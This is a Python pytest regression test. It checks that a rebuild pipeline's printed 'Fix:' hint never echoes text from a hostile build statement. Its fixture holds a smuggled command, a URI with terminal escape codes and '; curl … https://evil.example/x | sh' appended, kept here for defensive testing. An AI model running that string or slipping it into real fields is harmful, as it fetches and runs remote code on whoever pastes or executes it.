"""`rebuild --verify`'s printed fix holds no text of the statement it checks (issue 27 section 4).

A hostile statement's build environment URI (`oci://…; curl … | sh`, with escape codes) once became part of
the "Fix:" a user pastes; the fix now names the field that records it.  The host probe is replaced here, so the
refusal is reached without a compiler or a published set.
"""

from __future__ import annotations

import pytest

from pipeline.errors import EnvironmentProblem
from pipeline.formats.lanes import find_lane

HOSTILE_URI = "oci://ghcr.io/evil/env@sha256:00\x1b[2K\x1b[1A; curl -fsSL https://evil.example/x | sh"


class _Statement:
    def dependency(self, name: str):
        return {"name": name, "uri": HOSTILE_URI} if name == "build-environment:container" else None


def test_a_host_drift_fix_names_the_field_never_the_statements_text(monkeypatch, tmp_path):
    from pipeline.formats import lanes as lanes_module
    from pipeline.lanework import hostdeps
    from pipeline.stages import rebuild

    lane = find_lane("5090")
    stage = object.__new__(rebuild.RebuildStage)  # only what the host check reads
    stage.prebuilt, stage.lane, stage.statement, stage.statement_path = None, lane, _Statement(), tmp_path / "statement.json"
    stage.pkg_config_path, stage.allow_host_drift, stage.checks = (), False, []
    monkeypatch.setattr(lanes_module, "current_host_platform", lambda: lane.build_host)
    monkeypatch.setattr(rebuild.slsa, "recorded_host", lambda statement, origin: [{"name": "c++", "kind": "tool"}])
    monkeypatch.setattr(hostdeps, "probe", lambda *args, **kwargs: (None, []))
    monkeypatch.setattr(hostdeps, "host_drift", lambda *args, **kwargs: [{"dependency": "c++ (tool)", "recorded": "99.1.0", "found": "12.2.0", "install": "apt-get install g++-12=12.2.0-14"}])
    with pytest.raises(EnvironmentProblem) as caught:
        stage._check_host()
    fix = caught.value.fix or ""
    assert "curl" not in fix and "evil" not in fix and "\x1b" not in fix
    assert "build-environment:container" in fix and "apt-get install g++-12=12.2.0-14" in fix
    assert "\x1b" not in caught.value.render()
